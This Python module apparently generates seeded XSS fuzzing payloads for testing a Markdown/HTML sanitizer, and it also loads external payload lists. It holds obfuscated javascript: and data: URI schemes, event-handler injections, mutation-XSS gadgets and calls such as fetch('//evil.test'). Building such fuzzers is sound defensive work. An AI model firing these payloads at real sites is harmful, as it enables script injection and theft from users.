"""Hostile texts of our own making, and larger collections where they lie beside the project."""

import json
import random
from collections.abc import Iterator

import config

CORPORA = config.ROOT.parent / "shared" / "corpora"

SLIPPED_IN = ("\x00", "\u200b", "\t", "\n", "\\", "*", "`", "<", ">")
CALLS = ("alert(1)", "window.hurt=1", "fetch('//evil.test')", "eval(name)", "top.location='//evil.test'")
SCHEMES = (
    *("javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}"),
    *("java\nscript:{}", "\x01javascript:{}", " javascript:{}"),
    *("javascript&colon;{}", "&#106;avascript:{}"),
    *("&#x6A;avascript:{}", "javascript&#58;{}", "&Tab;javascript:{}"),
    *("vbscript:{}", "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD4=", "blob:{}"),
    *("//evil.test", "/\\evil.test", "\\\\evil.test"),
    *("https:\\\\evil.test", "http://a@evil.test", "https:evil.test"),
    *("https://x.vn@evil.test/", "https://evil.test\\.x.vn"),
    *("file:///etc/passwd", "ws://evil.test", "feed:javascript:{}"),
    *("jar:{}", "view-source:{}", "tel:javascript", "mailto:a@b.c?cc={}<x>"),
    *("livescript:{}", "mocha:{}", "%6aavascript:{}"),
)  # fmt: skip
TAGS = (
    *(
        "script",
        "img",
        "svg",
        "math",
        "iframe",
        "object",
        "embed",
        "form",
        "input",
        "button",
        "textarea",
        "select",
    ),
    *(
        "style",
        "link",
        "meta",
        "base",
        "body",
        "html",
        "head",
        "template",
        "noscript",
        "video",
        "audio",
        "source",
    ),
    *(
        "details",
        "marquee",
        "table",
        "td",
        "isindex",
        "xmp",
        "plaintext",
        "title",
        "frameset",
        "foreignObject",
    ),
    *(
        "animate",
        "set",
        "use",
        "mglyph",
        "annotation-xml",
        "a",
        "p",
        "b",
        "x-own",
        "svg/onload",
        "image",
        "slot",
    ),
)
EVENTS = (
    *(
        "onerror",
        "onload",
        "onclick",
        "onmouseover",
        "onfocus",
        "ontoggle",
        "onanimationstart",
        "onbegin",
        "onpointerrawupdate",
    ),
    *(
        "oNeRrOr",
        "on\x00error",
        "onerror\x0c",
        "/onerror",
        "formaction",
        "style",
        "srcdoc",
        "xlink:href",
        "background",
    ),
    *(
        "ping",
        "target",
        "lang",
        "title",
        "class",
        "id",
        "data-x",
        "poster",
        "srcset",
        "action",
        "is",
        "nonce",
        "slot",
    ),
)
FRAMES = (
    *("{}", "> {}", "- {}", "1. {}", "  {}", "    {}", "**{}**"),
    *("_{}_", "`{}`", "``{}", "\\{}", "{}\n{}", "a {} b", "<!--{}-->"),
    *("<![CDATA[{}]]>", "<?{}?>", "<!{}>", "</p>{}", "[{}](/x)"),
    *("[x]: {}\n\n[x]", "[a][b]\n\n[b]: {} '{}'", "| {} |\n|-|"),
    *("<div>\n\n{}\n\n</div>", "{}{}{}", "\"'>{}", "%3C{}"),
    *("&lt;{}&gt;", "\u2028{}", "\u202e{}", "{}\x00", "<<{}>>", "]]>{}"),
    *("```\n{}\n```", "~~~\n{}", "#{}", "Title\n{}\n==="),
    *("![{}](images/a.svg)", "[x](/a '{}')", "<{}>", "{}: a\n: b"),
)  # fmt: skip


def payloads(seed: int, count: int) -> Iterator[str]:
    """Yield that many hostile texts; the same for the same seed."""
    chance = random.Random(seed)
    for _ in range(count):
        frame = chance.choice(FRAMES)
        yield frame.replace("{}", _piece(chance))


def _piece(chance: random.Random) -> str:
    call = chance.choice(CALLS)
    address = chance.choice(SCHEMES).replace("{}", call)
    event, tag = chance.choice(EVENTS), chance.choice(TAGS)
    quote = chance.choice(['"', "'", "", "`"])
    piece = chance.choice(
        [
            f"<{tag} {event}={quote}{call}{quote}>",
            f"<{tag} {event}={quote}{call}{quote}>{call}</{tag}>",
            f"<{tag}\n{event}\t=\n{quote}{address}{quote}/>",
            f"<{tag} href={quote}{address}{quote} src={quote}{address}{quote}>x</{tag}>",
            f"[x]({address})",
            f"[x](<{address}>)",
            f"![x]({address})",
            f'![x" {event}="{call}](images/a.svg)',
            f'[x](/a" {event}="{call})',
            f"[x](https://x.vn/'{event}='{call})",
            f"<{address}>",
            f"[{call}][{tag}]\n\n[{tag}]: {address}",
            f"<{tag}><{chance.choice(TAGS)} {event}={call}></{tag}>",
            f"<math><mtext><table><mglyph><style><!--</style><img {event}={call}>",
            f"<svg></p><style><a id='</style><img {event}={call}>'>",
            f"<noscript><p title='</noscript><img {event}={call}>'>",
        ]
    )
    return _disguised(piece, chance)


def _disguised(piece: str, chance: random.Random) -> str:
    match chance.randint(0, 7):
        case 0:
            return piece.replace("<", "&lt;")
        case 1:
            return "".join(
                f"&#{ord(sign)};" if sign.isalpha() and chance.random() < 0.3 else sign for sign in piece
            )
        case 2:
            return "".join(sign.upper() if chance.random() < 0.5 else sign for sign in piece)
        case 3:
            place = chance.randint(0, len(piece))
            return piece[:place] + chance.choice(SLIPPED_IN) + piece[place:]
        case 4:
            return piece[: chance.randint(1, len(piece))]
        case _:
            return piece


def larger_collections() -> list[str]:
    """Return the texts that lie beside the project, one a line or a JSON list, where there are any."""
    found: list[str] = []
    for file in sorted(CORPORA.rglob("*")) if CORPORA.is_dir() else []:
        if file.suffix in (".txt", ".payloads"):
            found += file.read_text(errors="replace").split("\n")
        elif file.suffix == ".json":
            held = json.loads(file.read_text(errors="replace"))
            found += [one if isinstance(one, str) else json.dumps(one) for one in held]
    return [one for one in dict.fromkeys(found) if one.strip()]
